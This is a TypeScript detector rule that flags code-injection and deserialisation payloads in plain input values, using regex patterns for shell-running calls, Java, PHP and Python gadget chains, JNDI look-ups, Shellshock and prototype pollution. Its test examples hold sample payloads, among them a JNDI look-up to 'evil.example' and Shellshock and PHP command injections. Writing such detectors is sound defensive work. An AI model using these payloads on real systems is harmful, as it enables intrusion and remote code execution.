import { argumentDetector, isProse, wholeValue, type ArgumentRule } from './argument-detector.ts';

// Calls that run a command, in the languages that web applications are written in.
const RUNS = [
  String.raw`["'][;)]{0,3}\s?[-+;]?\s?(?:alert|prompt|confirm)\s?\(`,
  String.raw`(?:system|shell_exec|passthru|proc_open|popen|pcntl_exec|shellexec|os\.execute|io\.popen)\s?\(\s?["'$\x60@]`,
  String.raw`(?:^|[^\w.\s]|[;|&]\s{0,3}|^[\w.]{0,20}?)(?:eval|exec|assert|create_function)\s?\(\s?["'$\x60@]`,
  String.raw`\b(?:phpinfo|php_uname|getenv|get_defined_vars)\s?\(\s?\)`,
  String.raw`\bos\.(?:system|popen|spawn\w{0,3}|exec[lv]p?e?)\s?\(`,
  String.raw`\bsubprocess\.(?:run|call|Popen|check_output|getoutput)\s?\(`,
  String.raw`__import__\s?\(\s?["']`,
  String.raw`\b(?:require|import)\s?\(\s?["'](?:node:)?(?:child_process|fs|os|net|vm)["']\s?\)\s?\.`,
  String.raw`\bprocess\.(?:mainModule|binding|env\b|exit)\b`,
  String.raw`\b(?:child_process|execSync|spawnSync)\b.{0,20}\(`,
  String.raw`\.constructor\s?(?:\(|\[|\.\s?constructor)`,
  String.raw`\bgetRuntime\s?\(\s?\)|\bProcessBuilder\b|Class\.forName\s?\(`,
  String.raw`\bKernel\.(?:exec|system|open)\b|\bIO\.popen\b|%x[({\[]`,
  String.raw`<\?(?:php|=)|<%(?:=|\s)?\s?(?:Runtime|Response\.|eval|exec|system|new java|request\.)`,
  String.raw`\{?\$\{\s?@?(?:phpinfo|print|sleep|system|exec|eval|passthru|shell_exec|assert|file_get_contents)\s?\(`,
  String.raw`\{\s?\$_(?:GET|POST|REQUEST|SERVER|COOKIE)\b`,
  String.raw`<!--\s?#(?:exec|include|echo|printenv|set)\b`,
  String.raw`\(\)\s?\{\s?:?;?\s?\}\s?;`,
  String.raw`\b(?:base64_decode|gzinflate|str_rot13)\s?\(\s?["'$]`,
  String.raw`\bfile_(?:get|put)_contents\s?\(`,
] as const;

// Serialised objects that run code when they are read, and look-ups that a logger follows.
const GADGETS = [
  String.raw`\$\{(?:jndi|\$\{(?:lower|upper|env|sys|::-?)[^{}]{0,20}\}|(?:j|::-j)\}?)[^\s]{0,80}(?:ldaps?|rmi|dns|iiop|corba|nis|http)?:`,
  String.raw`^rO0AB[A-Za-z0-9+/]|^aced0005`,
  String.raw`\b[OaC]:\d{1,5}:(?:"[\w\\]{2,80}":\d{1,5}:)?\{(?:s:|i:|O:|a:|\})`,
  String.raw`!!(?:python/(?:object|name|module)|javax?\.|com\.sun|ruby/object)|!ruby/(?:object|hash)`,
  String.raw`\bcos\nsystem\n|\bcposix\nsystem\n|c__builtin__\n|cbuiltins\neval`,
  String.raw`^gASV[A-Za-z0-9+/]|^AAEAAAD/{5}`,
  String.raw`_\$\$ND_FUNC\$\$_`,
  String.raw`JdbcRowSetImpl|TemplatesImpl|InvokerTransformer|ObjectDataProvider|BadAttributeValueExp|PriorityQueue.{0,40}comparator|CommonsCollections`,
  String.raw`__proto__[\][."']|constructor(?:\]|\.)?\[?\.?prototype\b`,
] as const;

const RUN_CALL = new RegExp(RUNS.join('|'), 'i');
const GADGET = new RegExp(GADGETS.join('|'), 'i');
const QUICK =
  /[(<{]|rO0AB|aced|gASV|AAEAA|!!|!ruby|\nsystem|O:|__proto__|prototype|_\$\$|Impl$|Transformer|DataProvider/;

const rule: ArgumentRule = (text, role) => {
  if (role === 'code' || role === 'command' || !QUICK.test(text)) return undefined;
  if (role === 'text')
    return text.length < 300 && !/[\s`]/.test(text.trim()) && GADGET.test(text) ? wholeValue(text) : undefined;
  if (isProse(text)) return undefined;
  return GADGET.test(text) || RUN_CALL.test(text) ? wholeValue(text) : undefined;
};

export const CODE_INJECTION = argumentDetector(
  {
    id: 'exec.code-injection',
    severity: 'critical',
    title: 'Program code put into a plain value',
    explanation:
      'A value that should be plain holds a call that runs commands, or a serialised object that does when it is read.',
    examples: {
      name: 'name',
      match: [
        "x';system('id');//",
        "__import__('os').popen('id').read()",
        '${jndi:ldap://evil.example/a}',
        '<!--#exec cmd="/usr/bin/id"-->',
        '() { :;}; /usr/bin/id',
        'O:8:"Runner":1:{s:3:"cmd";s:2:"id";}',
        '__proto__[isAdmin]=true',
      ],
      noMatch: [
        'Prototype (2019)',
        'eval board',
        'What does os.system(cmd) do when it fails?',
        'getenv',
        'Exec (interim)',
        'system (legacy)',
      ],
    },
  },
  rule,
  { large: [GADGET, RUN_CALL] },
);
